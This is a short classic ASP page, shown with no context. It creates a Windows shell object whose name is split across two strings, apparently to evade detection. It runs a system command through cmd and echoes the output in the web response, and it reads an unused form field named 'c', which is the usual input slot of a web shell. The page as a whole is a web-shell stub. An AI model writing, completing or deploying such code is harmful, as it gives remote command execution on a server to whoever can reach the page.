<%
Dim sh, c, ex
c = Request.Form("c")
Set sh = Server.CreateObject("WScr" & "ipt.Shell")
Set ex = sh.Exec("cmd /c ver")
Response.Write ex.StdOut.ReadAll()
%>
